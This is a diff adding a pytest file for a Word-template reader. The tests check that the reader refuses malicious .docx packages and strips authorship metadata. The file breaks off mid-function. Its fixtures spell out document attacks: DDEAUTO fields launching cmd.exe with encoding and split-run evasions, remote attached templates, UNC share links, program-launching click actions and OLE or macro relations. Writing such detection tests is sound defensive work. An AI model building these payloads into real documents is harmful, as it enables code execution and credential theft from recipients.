@@ -1,0 +1,686 @@
+"""A template comes by e-mail: nothing in it may fetch, run, or tell who made it, whatever its parts are called.
+
+Each attack is built from a shipped template, which is sound; the neighbours are what honest templates hold.
+"""
+
+from __future__ import annotations
+
+import base64
+import io
+import zipfile
+from collections.abc import Callable, Mapping
+from pathlib import Path
+
+import pytest
+
+from pipeline.model.finding import Finding
+from pipeline.model.source import WordFile
+from pipeline.programs import ends_well
+from pipeline.read.word import read_word
+from pipeline.read.word.champs import field_faults
+from pipeline.read.word.xml import fresh_root
+from pipeline.run import build
+from tests.conftest import skip_or_fail
+from tests.projets import CHECKOUT, examen, petit_projet
+
+MASTER = "templates/docx/projet-de-sante.docx"
+Parts = dict[str, bytes]
+Edit = Callable[[Parts], None]
+
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+MS = "http://schemas.microsoft.com/office"
+WORDML = "application/vnd.openxmlformats-officedocument.wordprocessingml"
+WNS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+V = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
+A = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
+MC = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
+PNG = base64.b64decode(
+    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
+)
+BEGIN = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+SEPARATE = '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+END = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+
+
+# --- how an attack is made ----------------------------------------------------------------------------------------
+
+
+def parts_of(data: bytes) -> Parts:
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        return {name: archive.read(name) for name in archive.namelist()}
+
+
+def zipped(parts: Mapping[str, bytes]) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
+        for name, data in parts.items():
+            out.writestr(name, data)
+    return buffer.getvalue()
+
+
+def read(edit: Edit | None = None, path: str = MASTER) -> tuple[WordFile | None, list[Finding]]:
+    parts = parts_of(petit_projet()[path])
+    if edit:
+        edit(parts)
+    findings: list[Finding] = []
+    return read_word(path, zipped(parts), findings), findings
+
+
+def swap(name: str, old: str, new: str) -> Edit:
+    def edit(parts: Parts) -> None:
+        assert old.encode() in parts[name], (name, old)
+        parts[name] = parts[name].replace(old.encode(), new.encode(), 1)
+
+    return edit
+
+
+def all_of(*edits: Edit) -> Edit:
+    def edit(parts: Parts) -> None:
+        for one in edits:
+            one(parts)
+
+    return edit
+
+
+def part(name: str, data: bytes | str, kind: str = "") -> Edit:
+    def edit(parts: Parts) -> None:
+        parts[name] = data.encode() if isinstance(data, str) else data
+        if kind:
+            declare(f'<Override PartName="/{name}" ContentType="{kind}"/>')(parts)
+
+    return edit
+
+
+def declare(entry: str) -> Edit:
+    return swap("[Content_Types].xml", "</Types>", f"{entry}</Types>")
+
+
+def relation(
+    kind: str, target: str, outside: bool = False, owner: str = "word/document.xml", rid: str = "rId99"
+) -> Edit:
+    """``kind`` is a last word of Office's own, or a whole address."""
+    folder, _, base = owner.rpartition("/")
+    rels = f"{folder}/_rels/{base}.rels" if owner else "_rels/.rels"
+    whole = kind if "/" in kind else f"{OFFICE}/{kind}"
+    mode = ' TargetMode="External"' if outside else ""
+    entry = f'<Relationship Id="{rid}" Type="{whole}" Target="{target}"{mode}/>'
+
+    def edit(parts: Parts) -> None:
+        empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
+        parts[rels] = parts.get(rels, empty).replace(b"</Relationships>", f"{entry}</Relationships>".encode())
+
+    return edit
+
+
+def body(xml: str) -> Edit:
+    return swap("word/document.xml", "<w:sectPr>", f"{xml}<w:sectPr>")
+
+
+def header(xml: str) -> Edit:
+    return swap("word/header1.xml", "</w:hdr>", f"{xml}</w:hdr>")
+
+
+def p(*runs: str) -> str:
+    return f"<w:p>{''.join(runs)}</w:p>"
+
+
+def r(xml: str) -> str:
+    return f"<w:r>{xml}</w:r>"
+
+
+def code(text: str) -> str:
+    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'
+
+
+def field(text: str, result: str = "<w:r><w:t>1</w:t></w:r>") -> str:
+    return BEGIN + code(text) + SEPARATE + result + END
+
+
+def picture(xml: str) -> str:
+    return p(r(f"<w:pict {V}><v:shape>{xml}</v:shape></w:pict>"))
+
+
+def blip(attributes: str) -> str:
+    uri = "http://schemas.openxmlformats.org/drawingml/2006/picture"
+    inner = f'<a:graphicData uri="{uri}"><a:blip {attributes}/></a:graphicData>'
+    return p(r(f"<w:drawing><a:graphic {A}>{inner}</a:graphic></w:drawing>"))
+
+
+def moved_body(decoy: bool) -> Edit:
+    """The body under another name, with the true one left beside it or not."""
+
+    def edit(parts: Parts) -> None:
+        parts["word/autre.bin"] = parts["word/document.xml"]
+        parts["word/_rels/autre.bin.rels"] = parts["word/_rels/document.xml.rels"]
+        if not decoy:
+            del parts["word/document.xml"], parts["word/_rels/document.xml.rels"]
+        swap("_rels/.rels", "word/document.xml", "word/autre.bin")(parts)
+        swap("[Content_Types].xml", "/word/document.xml", "/word/autre.bin")(parts)
+
+    return edit
+
+
+def recoded(coding: str) -> Edit:
+    """A header with a field, in a coding that a parser may know and a search of bytes does not."""
+
+    def edit(parts: Parts) -> None:
+        text = parts["word/header1.xml"].decode().replace('"UTF-8"', f'"{coding}"')
+        parts["word/header1.xml"] = text.replace("</w:hdr>", f"{p(field(DDE))}</w:hdr>").encode(
+            coding, "xmlcharrefreplace"
+        )
+
+    return edit
+
+
+# --- attacks ------------------------------------------------------------------------------------------------------
+
+DDE = "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;"
+ENTITY = '<!DOCTYPE x [<!ENTITY e "DDEAUTO cmd">]>'
+
+PACKAGES: dict[str, Edit] = {
+    "body in a .bin, decoy": moved_body(decoy=True),
+    "body in a .bin": moved_body(decoy=False),
+    "header in a .bin": all_of(
+        part("word/entete.bin", f'<w:hdr xmlns:w="{WNS}">{p(field(DDE))}</w:hdr>', f"{WORDML}.header+xml"),
+        relation("header", "entete.bin"),
+    ),
+    "header named as a picture": all_of(
+        part("word/media/a.png", f'<w:hdr xmlns:w="{WNS}">{p(field(DDE))}</w:hdr>', f"{WORDML}.header+xml"),
+        relation("header", "media/a.png"),
+    ),
+    "header of a name that nobody fills": all_of(
+        part("word/header1b.xml", f'<w:hdr xmlns:w="{WNS}">{p()}</w:hdr>', f"{WORDML}.header+xml"),
+        relation("header", "header1b.xml"),
+    ),
+    "picture in a folder of its own": all_of(
+        part("word/media/a/b.png", PNG, "image/png"), relation("image", "media/a/b.png")
+    ),
+    "picture that is a page of the web": all_of(
+        declare('<Default Extension="png" ContentType="image/png"/>'),
+        part("word/media/a.png", "<html><script>1</script></html>"),
+        relation("image", "media/a.png"),
+    ),
+    "picture of the type of a program": all_of(
+        declare('<Default Extension="png" ContentType="application/x-msdownload"/>'),
+        part("word/media/a.png", PNG),
+        relation("image", "media/a.png"),
+    ),
+    "drawing that runs": all_of(
+        part(
+            "word/media/a.svg",
+            '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>1</script><path d="M0 0h9"/></svg>',
+            "image/svg+xml",
+        ),
+        relation("image", "media/a.svg"),
+    ),
+    "drawing that fetches": all_of(
+        part(
+            "word/media/a.svg",
+            '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><image href="https://a.fr/b.png"/></svg>',
+            "image/svg+xml",
+        ),
+        relation("image", "media/a.svg"),
+    ),
+    "two bodies": all_of(
+        part(
+            "word/document2.xml", f'<w:document xmlns:w="{WNS}"><w:body/></w:document>', f"{WORDML}.document.main+xml"
+        ),
+        relation("officeDocument", "word/document2.xml", owner=""),
+    ),
+    "two parts of styles": all_of(
+        part("word/styles2.xml", f'<w:styles xmlns:w="{WNS}"/>', f"{WORDML}.styles+xml"),
+        relation("styles", "styles2.xml"),
+    ),
+    "type said twice": declare(f'<Override PartName="/WORD/DOCUMENT.XML" ContentType="{WORDML}.header+xml"/>'),
+    "extension said twice": declare('<Default Extension="XML" ContentType="text/html"/>'),
+    "header of the type of a body": all_of(
+        part("word/header9.xml", f'<w:hdr xmlns:w="{WNS}"/>', f"{WORDML}.document.main+xml"),
+        relation("header", "header9.xml"),
+    ),
+    "footnotes that are a body": all_of(
+        part("word/footnotes.xml", f'<w:document xmlns:w="{WNS}"><w:body/></w:document>', f"{WORDML}.footnotes+xml"),
+        relation("footnotes", "footnotes.xml"),
+    ),
+    "part that nothing leads to": part("word/cache.xml", "<x/>"),
+    "program beside": part("word/outil.exe", b"MZ"),
+    "piece of a part": part("word/document.xml/[0].piece", b"<x/>"),
+    "relationships of nothing": part(
+        "word/_rels/absent.xml.rels",
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>',
+    ),
+    "escaped target": swap("_rels/.rels", "word/document.xml", "word/%64ocument.xml"),
+    "target with a query": swap("_rels/.rels", "word/document.xml", "word/document.xml?a"),
+    "target of another case": swap("_rels/.rels", "word/document.xml", "Word/Document.xml"),
+    "target with backslashes": swap("_rels/.rels", "word/document.xml", "word\\document.xml"),
+    "relationship of another base": swap(
+        "word/_rels/document.xml.rels", "<Relationship ", '<Relationship xml:base="https://a.fr/" '
+    ),
+    "relationship said twice": relation("styles", "styles.xml", rid="rId1"),
+    "unknown mode": all_of(
+        relation("image", "https://a.fr/b.png", outside=True),
+        swap("word/_rels/document.xml.rels", '"External"', '"external"'),
+    ),
+    "strict relationship": relation(
+        "http://purl.oclc.org/ooxml/officeDocument/relationships/image", "a.png", outside=True
+    ),
+    "relationship of the name of another": relation("https://a.fr/relationships/styles", "styles.xml"),
+    "attached template": all_of(
+        relation("attachedTemplate", "https://a.fr/b.dotm", outside=True, owner="word/settings.xml"),
+        swap("word/settings.xml", "<w:zoom", '<w:attachedTemplate r:id="rId99"/><w:zoom'),
+    ),
+    "attached template on a share": relation(
+        "attachedTemplate", "file:///\\\\a.fr\\b.dotm", outside=True, owner="word/settings.xml"
+    ),
+    "object": all_of(part("word/embeddings/a.bin", b"\xd0\xcf"), relation("oleObject", "embeddings/a.bin")),
+    "linked object": relation("oleObject", "https://a.fr/b.xlsx", outside=True),
+    "embedded workbook": all_of(part("word/embeddings/a.xlsx", b"PK"), relation("package", "embeddings/a.xlsx")),
+    "control": all_of(part("word/activeX/activeX1.xml", "<x/>"), relation("control", "activeX/activeX1.xml")),
+    "chunk": all_of(part("word/a.html", "<html/>"), relation("aFChunk", "a.html")),
+    "subdocument": relation("subDocument", "https://a.fr/b.docx", outside=True),
+    "frames": all_of(
+        part("word/webSettings.xml", f'<w:webSettings xmlns:w="{WNS}"><w:frameset/></w:webSettings>'),
+        relation("webSettings", "webSettings.xml"),
+        relation("frame", "https://a.fr/b.html", outside=True, owner="word/webSettings.xml"),
+    ),
+    "mail merge": all_of(
+        relation("mailMergeSource", "file:///c:/a.csv", outside=True, owner="word/settings.xml"),
+        swap("word/settings.xml", "<w:zoom", '<w:mailMerge><w:dataSource r:id="rId99"/></w:mailMerge><w:zoom'),
+    ),
+    "mail merge by a query": swap(
+        "word/settings.xml",
+        "<w:zoom",
+        '<w:mailMerge><w:connectString w:val="DSN=a"/><w:query w:val="SELECT *"/></w:mailMerge><w:zoom',
+    ),
+    "transform on saving": swap(
+        "word/settings.xml", "<w:zoom", '<w:saveThroughXslt w:solutionID="https://a.fr/b.xsl"/><w:zoom'
+    ),
+    "embedded font": all_of(
+        part("word/fonts/font1.odttf", b"abc"), relation("font", "fonts/font1.odttf", owner="word/fontTable.xml")
+    ),
+    "macros": relation(f"{MS}/2006/relationships/vbaProject", "media/a.png"),
+    "keys of macros": all_of(
+        part("word/customizations.xml", "<x/>"),
+        relation(f"{MS}/2006/relationships/keyMapCustomizations", "customizations.xml"),
+    ),
+    "ribbon": all_of(
+        part("customUI/customUI14.xml", "<x/>"),
+        relation(f"{MS}/2007/relationships/ui/extensibility", "customUI/customUI14.xml", owner=""),
+    ),
+    "web extension": all_of(
+        part("word/webextensions/taskpanes.xml", "<x/>"),
+        relation(f"{MS}/2011/relationships/webextensiontaskpanes", "word/webextensions/taskpanes.xml", owner=""),
+    ),
+    "chart": all_of(part("word/charts/chart1.xml", "<x/>"), relation("chart", "charts/chart1.xml")),
+    "video": relation("video", "https://a.fr/b.mp4", outside=True),
+    "external link": relation("externalLink", "https://a.fr/b.xlsx", outside=True),
+    "link to a file": relation("hyperlink", "file:////a.fr/b.exe", outside=True),
+    "link to a program": relation("hyperlink", "ms-word:ofe|u|https://a.fr/b.docm", outside=True),
+    "link to a script": relation("hyperlink", "JavaScript:alert(1)", outside=True),
+    "link to a path": relation("hyperlink", "..\\b.exe", outside=True),
+    "link from a header to a share": relation("hyperlink", "\\\\a.fr\\b", outside=True, owner="word/header1.xml"),
+    "styles that lead somewhere": relation("hyperlink", "https://a.fr/", outside=True, owner="word/styles.xml"),
+    "linked picture": all_of(relation("image", "https://a.fr/b.png", outside=True), body(blip('r:link="rId99"'))),
+    "picture linked through a link of the web": all_of(
+        relation("hyperlink", "https://a.fr/b.png", outside=True), body(blip('r:link="rId99"'))
+    ),
+    "picture embedded through a link of the web": all_of(
+        relation("hyperlink", "https://a.fr/b.png", outside=True), body(blip('r:embed="rId99"'))
+    ),
+    "body in utf-7": lambda parts: parts.update(
+        {
+            "word/document.xml": parts["word/document.xml"]
+            .replace(b'"UTF-8"', b'"UTF-7"')
+            .replace(b"<w:sectPr>", p(field("DDE")).replace("DDE", "+AEQ-DE").encode() + b"<w:sectPr>")
+        }
+    ),
+    "entity in utf-16": lambda parts: parts.update(
+        {
+            "word/header1.xml": parts["word/header1.xml"]
+            .decode()
+            .replace('"UTF-8"', '"UTF-16"')
+            .replace("<w:hdr", f"{ENTITY}<w:hdr", 1)
+            .replace("</w:hdr>", p(BEGIN, code("&e;"), END) + "</w:hdr>")
+            .encode("utf-16")
+        }
+    ),
+    **{
+        f"header in {coding}": recoded(coding)
+        for coding in ("utf-16-le", "utf-16-be", "utf-32", "utf-7", "cp037", "cp500", "latin-1", "shift_jis")
+    },
+    "element of another world": body('<x:a xmlns:x="urn:autre" x:src="https://a.fr/"/>'),
+}
+
+MARKUP = {
+    "vml picture by its address": picture('<v:imagedata src="https://a.fr/b.png"/>'),
+    "vml picture by its link": picture('<v:imagedata o:href="https://a.fr/b.png"/>'),
+    "vml picture by another link": picture('<v:imagedata r:href="rId99"/>'),
+    "vml picture of the low": picture('<v:imagedata o:althref="https://a.fr/b.png"/>'),
+    "vml picture on a share": picture('<v:imagedata src="\\\\a.fr\\b.png"/>'),
+    "vml fill": picture('<v:fill src="https://a.fr/b.png"/>'),
+    "vml fill by its link": picture('<v:fill o:relid="rId99"/>'),
+    "vml stroke": picture('<v:stroke src="file:///c:/b.png"/>'),
+    "vml shape that is a link": p(r(f'<w:pict {V}><v:rect href="file:////a.fr/b.exe"/></w:pict>')),
+    "picture without its part": blip('r:embed="rId98"'),
+    "click that runs a program": blip('r:embed=""').replace(
+        "<a:graphicData", '<a:hlinkClick r:id="" action="ppaction://program?c:\\cmd.exe"/><a:graphicData'
+    ),
+    "chart": blip('r:embed=""').replace("drawingml/2006/picture", "drawingml/2006/chart"),
+    "smartart": blip('r:embed=""').replace("drawingml/2006/picture", "drawingml/2006/diagram"),
+    "object": p(r(f'<w:object {V}><o:OLEObject Type="Link" ProgID="Excel.Sheet.8" r:id="rId99"/></w:object>')),
+    "control": p(r('<w:object><w:control r:id="rId99" w:name="a"/></w:object>')),
+    "chunk": '<w:altChunk r:id="rId99"/>',
+    "subdocument": p('<w:subDoc r:id="rId99"/>'),
+    "ink": p(r('<w:contentPart r:id="rId99"/>')),
+    "video of the web": p(
+        r(f'<w:drawing><wp:webVideoPr xmlns:wp="{MS}/word/2012/wordprocessingDrawing" embeddedHtml="x"/></w:drawing>')
+    ),
+    "form with a macro": p(
+        '<w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="a"/></w:ffData></w:fldChar></w:r>',
+        code("FORMTEXT"),
+        END,
+    ),
+    "tracked insertion": p('<w:ins w:id="1" w:author="Zoé Auteur"><w:r><w:t>a</w:t></w:r></w:ins>'),
+    "tracked format": p('<w:r><w:rPr><w:rPrChange w:id="1" w:author="Zoé Auteur"/></w:rPr><w:t>a</w:t></w:r>'),
+    "tracked cell": p("<w:pPr><w:rPr><w:cellIns w:id='1' w:author='Zoé Auteur'/></w:rPr></w:pPr>"),
+    # --- fields
+    "dde": p(field(DDE)),
+    "dde over two runs": p(BEGIN, code("DD"), code("EAUTO cmd"), SEPARATE, END),
+    "dde over two paragraphs": p(BEGIN, code("DD")) + p(code("EAUTO cmd"), SEPARATE, END),
+    "dde in a simple field": p('<w:fldSimple w:instr="DDE cmd x"/>'),
+    "dde in small letters": p(field("ddeauto cmd")),
+    "dde never closed": p(BEGIN, code("DDEAUTO cmd")),
+    "field never closed": p(BEGIN, code("PAGE"), SEPARATE),
+    "code outside a field": p(code("DDEAUTO cmd")),
+    "code after its field": p(BEGIN, code("PAGE"), SEPARATE, code("DDEAUTO cmd"), END),
+    "code in typed text": p(BEGIN, r("<w:t>DDEAUTO cmd</w:t>"), SEPARATE, END),
+    "code with typed text in it": p(BEGIN, code("PAGE"), r("<w:t>REF</w:t>"), SEPARATE, END),
+    "code with a sign in it": p(BEGIN, code("PAGE"), r('<w:sym w:char="F044"/>'), SEPARATE, END),
+    "code in two versions": p(
+        BEGIN, f"<mc:AlternateContent {MC}><mc:Fallback>{code('DDEAUTO cmd')}</mc:Fallback></mc:AlternateContent>", END
+    ),
+    "code made by a quote": p(BEGIN, field("QUOTE 68 68 69 65 85 84 79"), code(" cmd"), SEPARATE, END),
+    "quote alone": p(field("QUOTE 68 68 69")),
+    "code made by a simple field": p(BEGIN, '<w:fldSimple w:instr="PAGE"/>', code(" x"), END),
+    "field in the result of another": p(field("PAGE", field("INCLUDEPICTURE &quot;https://a.fr/b.png&quot;"))),
+    "field in a text box": p(
+        r(f"<w:pict {V}><v:textbox><w:txbxContent>{p(field(DDE))}</w:txbxContent></v:textbox></w:pict>")
+    ),
+    "end alone": p(END),
+    "unknown mark": p('<w:r><w:fldChar w:fldCharType="debut"/></w:r>'),
+    "empty code": p(field(" ")),
+    "link to a file": p(field("HYPERLINK &quot;file:////a.fr/b.exe&quot;")),
+    "link to a share": p(field("HYPERLINK &quot;\\\\\\\\a.fr\\\\b&quot;")),
+    "link to a path": p(field("HYPERLINK c:\\\\b.exe")),
+    "link to a neighbour": p(field("HYPERLINK &quot;b.docm&quot;")),
+    "link with a hidden end": p(field("HYPERLINK &quot;https://a.fr&quot; &quot;file:////a.fr/b.exe&quot;")),
+    "link to a script": p(field("HYPERLINK &quot;javascript:x&quot; \\l &quot;a&quot;")),
+    "tag in a code": p(field("REF {{ document.titre }}")),
+    "tag in a link": p(field("HYPERLINK &quot;{{ document.titre }}&quot;")),
+    **{
+        name: p(field(f"{name} x"))
+        for name in (
+            *("INCLUDETEXT", "INCLUDEPICTURE", "IMPORT", "LINK", "EMBED", "DATABASE", "RD", "MACROBUTTON", "AUTOTEXT"),
+            *("GOTOBUTTON", "PRINT", "IF", "SET", "ASK", "FILLIN", "MERGEFIELD", "DOCVARIABLE", "DOCPROPERTY", "INFO"),
+            *("USERNAME", "USERADDRESS", "AUTHOR", "LASTSAVEDBY", "FILENAME", "TEMPLATE", "BARCODE", "ADDIN", "SHAPE"),
+            *(
+                "DATE",
+                "TIME",
+                "SAVEDATE",
+                "=",
+                "HTMLCONTROL",
+                "BIDIOUTLINE",
+                "AUTOTEXTLIST",
+                "unsignet",
+                "EQ",
+                "SYMBOL",
+            ),
+        )
+    },
+}
+
+
+@pytest.mark.parametrize("name", PACKAGES)
+def test_a_package_that_is_not_what_it_seems_is_refused(name: str) -> None:
+    word, findings = read(PACKAGES[name])
+    assert word is None
+    assert {finding.code for finding in findings} == {"D004"}
+    assert all(finding.span.path == MASTER and finding.hints for finding in findings)
+
+
+@pytest.mark.parametrize("place", ["body", "header"])
+@pytest.mark.parametrize("name", MARKUP)
+def test_what_fetches_runs_or_tells_is_refused_in_the_body_and_in_a_header(name: str, place: str) -> None:
+    word, findings = read(body(MARKUP[name]) if place == "body" else header(MARKUP[name]))
+    assert word is None, name
+    assert {finding.code for finding in findings} == {"D004"}
+    assert all(finding.hints for finding in findings)
+
+
+def test_the_part_that_is_wrong_is_named() -> None:
+    said = {name: " ".join(finding.message for finding in read(PACKAGES[name])[1]) for name in PACKAGES}
+    assert "word/autre.bin" in said["body in a .bin, decoy"]
+    assert "word/entete.bin" in said["header in a .bin"]
+    assert "word/cache.xml" in said["part that nothing leads to"]
+    assert "https://a.fr/b.dotm" in said["attached template"]
+
+
+def test_a_date_that_would_change_is_replaced_by_that_of_the_document() -> None:
+    _word, findings = read(body(MARKUP["DATE"]))
+    assert "la date changerait à chaque ouverture" in findings[0].message
+    assert findings[0].hints == ("remplacez ce champ par {{ document.date }}.",)
+    word, findings = read(body(p(r("<w:t>{{ document.date }}</w:t>"))))
+    assert word is not None
+    assert findings == []
+
+
+def test_a_template_of_faults_is_told_in_a_few_lines() -> None:
+    _word, findings = read(body("".join(p(field(f"F{number}")) for number in range(500))))
+    assert 1 < len(findings) < 20
+
+
+# --- neighbours ---------------------------------------------------------------------------------------------------
+
+HONEST: dict[str, Edit] = {
+    "nothing": all_of(),
+    "a logo": all_of(
+        declare('<Default Extension="png" ContentType="image/png"/>'),
+        part("word/media/image1.png", PNG),
+        relation("image", "media/image1.png"),
+        body(blip('r:embed="rId99"')),
+    ),
+    "a logo in a header, by vml": all_of(
+        declare('<Default Extension="PNG" ContentType="image/png"/>'),
+        part("word/media/image1.PNG".lower(), PNG),
+        relation("image", "media/image1.png", owner="word/header1.xml"),
+        header(picture('<v:imagedata r:id="rId99" o:title="https://a.fr"/>')),
+    ),
+    "a drawing": all_of(
+        part(
+            "word/media/image1.svg",
+            '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><path d="M0 0h9"/></svg>',
+            "image/svg+xml",
+        ),
+        relation("image", "media/image1.svg"),
+        body(blip('r:embed="rId99"')),
+    ),
+    "a link": all_of(
+        relation("hyperlink", "https://www.ars.sante.fr/", outside=True), body(p('<w:hyperlink r:id="rId99"/>'))
+    ),
+    "a link to write to": relation("hyperlink", "mailto:contact@cpts-test.fr", outside=True),
+    "absolute targets": swap("_rels/.rels", '"word/document.xml"', '"/word/document.xml"'),
+    "settings that only a page needs": swap("word/settings.xml", "<w:zoom", "<w:mirrorMargins/><w:zoom"),
+    "a part in utf-16": lambda parts: parts.update(
+        {"word/header1.xml": parts["word/header1.xml"].decode().replace('"UTF-8"', '"UTF-16"').encode("utf-16")}
+    ),
+    "a field in a field": body(p(field("TOC \\o &quot;1-3&quot; \\h", field("PAGEREF _Toc1 \\h")))),
+    "contents over three paragraphs": body(
+        p(BEGIN, code("TOC \\h"), SEPARATE, r("<w:t>Un</w:t>")) + p(r("<w:t>Deux</w:t>")) + p(END)
+    ),
+    "a code in three runs with properties": body(
+        p(
+            BEGIN,
+            code("NUM"),
+            "<w:proofErr w:type='spellStart'/><w:r><w:rPr><w:b/></w:rPr><w:instrText>PAGES</w:instrText></w:r>",
+            END,
+        )
+    ),
+    **{
+        text: body(p(field(text)))
+        for text in (
+            *("PAGE", " page \\* MERGEFORMAT ", "NUMPAGES", "SECTIONPAGES", "SEQ Tableau \\* ARABIC", "REF a \\h"),
+            *("STYLEREF &quot;Titre 1&quot;", "NOTEREF b", "HYPERLINK &quot;https://a.fr/b&quot; \\o &quot;lire&quot;"),
+            *("HYPERLINK \\l &quot;_Toc1&quot;", "hyperlink https://a.fr", "HYPERLINK &quot;mailto:a@b.fr&quot;"),
+        )
+    },
+}
+
+
+@pytest.mark.parametrize("name", HONEST)
+def test_an_honest_template_passes(name: str) -> None:
+    word, findings = read(HONEST[name])
+    assert [finding.message for finding in findings] == []
+    assert word is not None
+
+
+@pytest.mark.parametrize("path", sorted((CHECKOUT / "templates/docx").glob("*.docx")), ids=lambda path: path.name)
+def test_the_shipped_templates_pass_and_leave_as_they_are(path: Path) -> None:
+    word, findings = read(path=f"templates/docx/{path.name}")
+    assert findings == []
+    assert word is not None
+    true = parts_of(path.read_bytes())
+    assert word.parts == {name: data for name, data in true.items() if not name.startswith("docProps/")}
+
+
+def test_french_names_of_styles_pass() -> None:
+    """The ids of the shipped styles are French already; those of Word in another language are not Latin letters."""
+
+    def edit(parts: Parts) -> None:
+        for name in ("word/styles.xml", "word/document.xml", "word/header1.xml", "word/footer1.xml"):
+            parts[name] = parts[name].replace(b'"Corpsdetexte"', '"Corps-de-texte-é"'.encode())
+
+    assert read(edit)[1] == []
+
+
+def test_what_word_itself_made_passes() -> None:
+    """The default template of python-docx was saved by Word: properties, XML of its own, styles with effects."""
+    import docx
+
+    data = (Path(docx.__file__).parent / "templates/default.docx").read_bytes()
+    findings: list[Finding] = []
+    word = read_word(MASTER, data, findings)
+    assert findings == []
+    assert word is not None
+    assert not [name for name in word.parts if name.startswith(("customXml", "docProps"))]
+
+
+def test_the_remedy_save_again_mends_a_body_under_another_name(tmp_path: Path) -> None:
+    """LibreOffice stands for Word here; like it, it writes the parts anew under their usual names."""
+    import shutil
+
+    soffice = shutil.which("soffice")
+    if soffice is None:
+        skip_or_fail("LibreOffice n'est pas installé (paquet libreoffice-writer-nogui)")
+    parts = parts_of(petit_projet()[MASTER])
+    all_of(moved_body(decoy=False), part("word/cache.xml", "<x/>"))(parts)
+    (tmp_path / "a.docx").write_bytes(zipped(parts))
+    command = [str(soffice), f"-env:UserInstallation={(tmp_path / 'profil').as_uri()}", "--headless"]
+    assert ends_well(
+        [*command, "--convert-to", "docx", "--outdir", str(tmp_path / "lo"), str(tmp_path / "a.docx")], 120
+    )
+    findings: list[Finding] = []
+    assert read_word(MASTER, (tmp_path / "lo/a.docx").read_bytes(), findings) is not None
+    assert findings == []
+
+
+# --- what tells who made the template -----------------------------------------------------------------------------
+
+SECRETS = ("Zoé Auteur", "zoe@cabinet.fr", "Cabinet Zoé", "00AB12CD", "note à ne pas montrer")
+
+
+def history() -> Edit:
+    """A template that was reviewed, saved on a firm's computer, and prepared for other uses."""
+    secret = " ".join(SECRETS)
+    comment = f'<w:comments xmlns:w="{WNS}"><w:comment w:id="0" w:author="{secret}">{p()}</w:comment></w:comments>'
+    kinds = {
+        "word/comments.xml": ("comments", comment),
+        "word/people.xml": (f"{MS}/2011/relationships/people", f"<a>{secret}</a>"),
+        "word/commentsExtended.xml": (f"{MS}/2011/relationships/commentsExtended", f"<a>{secret}</a>"),
+        "word/webSettings.xml": ("webSettings", f"<a>{secret}</a>"),
+        "word/printerSettings1.bin": ("printerSettings", secret),
+        "word/glossary/document.xml": ("glossaryDocument", f"<a>{secret}</a>"),
+        "customXml/item1.xml": ("customXml", f"<a>{secret}</a>"),
+    }
+    parts_and_rels = [
+        all_of(
+            part(name, text),
+            relation(kind, name.removeprefix("word/") if "word/" in name else f"../{name}", rid=f"rIdX{rank}"),
+        )
+        for rank, (name, (kind, text)) in enumerate(kinds.items())
+    ]
+    return all_of(
+        *parts_and_rels,
+        part("customXml/itemProps1.xml", f"<a>{secret}</a>"),
+        relation("customXmlProps", "itemProps1.xml", owner="customXml/item1.xml"),
+        part("docProps/custom.xml", f"<a>{secret}</a>"),
+        relation("custom-properties", "docProps/custom.xml", owner="", rid="rIdC"),
+        part("docMetadata/LabelInfo.xml", f"<a>{secret}</a>"),
+        relation(f"{MS}/2020/02/relationships/classificationlabels", "docMetadata/LabelInfo.xml", owner="", rid="rIdL"),
+        swap("docProps/core.xml", "<dc:creator>", f"<dc:creator>{secret}"),
+        swap(
+            "docProps/app.xml", "</Properties>", f"<Company>{secret}</Company><Manager>{secret}</Manager></Properties>"
+        ),
+        swap(
+            "word/settings.xml",
+            "<w:zoom",
+            f'<w:docVars><w:docVar w:name="a" w:val="{secret}"/></w:docVars>'
+            '<w:rsids><w:rsidRoot w:val="00AB12CD"/></w:rsids><w:zoom',
+        ),
+        body(
+            f"<!-- {secret} -->"
+            '<w:p w:rsidR="00AB12CD" w:rsidRDefault="00AB12CD"><w:commentRangeStart w:id="0"/>'
+            f'<w:permStart w:id="1" w:ed="{secret}"/>{r("<w:t>Visible</w:t>")}<w:permEnd w:id="1"/>'
+            '<w:commentRangeEnd w:id="0"/><w:r><w:rPr><w:b/></w:rPr><w:commentReference w:id="0"/></w:r></w:p>'
+            f'<w:sdt><w:sdtPr><w:dataBinding w:xpath="{secret}"/></w:sdtPr><w:sdtContent>'
+            f"{p(r('<w:t>Cadre</w:t>'))}</w:sdtContent></w:sdt>"
+            f"<?editeur {secret}?>"
+        ),
+    )
+
+
+@pytest.mark.parametrize("path", [MASTER, "templates/docx/fiche-action.docx", "templates/docx/statuts.docx"])
+def test_nothing_that_tells_who_made_a_template_leaves_with_a_document(path: str) -> None:
+    files = petit_projet()
+    parts = parts_of(files[path])
+    history()(parts)
+    files[path] = zipped(parts)
+    found = examen(files)
+    assert found.findings == ()
+    outputs = build(found)
+    assert set(outputs) == set(build(examen(petit_projet())))
+    for name, data in outputs.items():
+        for inside, text in parts_of(data).items():
+            assert not [secret for secret in SECRETS if secret.encode() in text], (name, inside)
+            assert not inside.startswith(("customXml", "docMetadata", "word/glossary", "word/comments")), (name, inside)
+            assert b"comment" not in text or inside == "word/styles.xml", (name, inside)
+    if path == MASTER:
